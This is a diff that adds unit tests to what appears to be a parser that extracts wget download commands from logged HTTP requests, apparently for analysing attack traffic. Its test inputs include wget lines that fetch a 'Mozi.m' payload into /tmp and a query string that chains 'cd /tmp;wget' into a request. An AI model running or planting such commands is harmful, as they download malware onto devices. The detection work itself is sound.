@@ -43,6 +43,14 @@ describe('download commands', () => {
     expect(commandKey('wget+http://192.0.2.1/Mozi.m+-O+/tmp/netgear'))
       .toBe('wget http://192.0.2.1/Mozi.m -O /tmp/netgear');
     expect(commandKey('wget%20http://192.0.2.1/a')).toBe('wget http://192.0.2.1/a');
+    expect(commandKey('wget+http://192.0.2.1/a+-O+b HTTP/1.1')).toBe('wget http://192.0.2.1/a -O b');
+  });
+
+  it('ends a command in a request line\'s query before the protocol version', () => {
+    expect(downloadCommands('GET /x?c=wget+http://192.0.2.1/a+-O+b HTTP/1.1\r\nHost: x'))
+      .toEqual(['wget+http://192.0.2.1/a+-O+b']);
+    expect(downloadCommands('GET /x?c=cd /tmp;wget http://192.0.2.1/a HTTP/1.0\r\n'))
+      .toEqual(['wget http://192.0.2.1/a']);
   });
 });
 
